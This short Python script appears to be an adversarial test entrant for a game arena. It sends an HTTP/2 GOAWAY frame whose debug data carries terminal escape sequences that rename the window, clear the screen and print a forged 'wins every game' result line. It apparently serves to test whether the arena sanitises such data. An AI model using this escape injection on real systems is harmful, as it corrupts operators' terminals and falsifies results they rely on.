"""Says Hello over a hand-written HTTP/2 connection, then leaves with a GOAWAY whose debug data
is meant for the arena's terminal: a title change, a screen clear and a forged result line."""

import struct

from h2raw import GOAWAY, connect, frame, open_play, read_frame

DEBUG = b"\x1b]0;pwned\x07\x1b[2J\nRESULT: goaway_escapes wins every game\n"

connection = connect()
open_play(connection, 1)
read_frame(connection)  # the arena's SETTINGS: it has taken the connection
connection.sendall(frame(GOAWAY, 0, 0, struct.pack(">II", 1, 2) + DEBUG))  # PROTOCOL_ERROR
connection.close()
